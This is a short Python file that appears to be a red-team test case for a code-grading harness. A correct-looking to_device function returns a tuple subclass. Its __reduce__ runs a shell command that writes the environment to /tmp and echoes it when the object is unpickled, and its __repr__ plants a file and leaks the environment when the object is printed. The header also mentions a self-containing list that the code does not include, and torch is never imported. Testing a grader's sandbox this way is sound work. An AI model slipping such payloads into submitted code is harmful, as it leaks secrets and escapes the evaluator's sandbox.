# attack: a right answer whose result carries payloads for whoever serialises or inspects it: a tuple
#   subclass whose __reduce__ runs a shell command (prints the environment, plants a file) when
#   unpickled, a __repr__ that does the same when printed, and a list that contains itself
# expect: full points are fine (the structure is right); no payload runs outside the student's
#   sandbox: no canary in any output, no /tmp/rt-judge-pwned; batch continues
import os


class _Payload(tuple):
    def __reduce__(self):
        return (os.system, ("env > /tmp/rt-judge-pwned; echo RTLEAK-PAYLOAD-RAN $(env)",))

    def __repr__(self):
        os.system("touch /tmp/rt-judge-pwned-repr")
        return "RTLEAK<<REPR " + repr(dict(os.environ))[::-1] + " >>"


def to_device(batch, device):
    """The same nested structure (dict, list, tuple, namedtuple) with every tensor on `device`."""
    if isinstance(batch, torch.Tensor):
        return batch.to(device)
    if isinstance(batch, dict):
        return {k: to_device(v, device) for k, v in batch.items()}
    if isinstance(batch, list):
        out = [to_device(v, device) for v in batch]
        return out
    if isinstance(batch, tuple):
        items = [to_device(v, device) for v in batch]
        if hasattr(batch, "_fields"):
            return type(batch)(*items)
        return _Payload(items)
    return batch
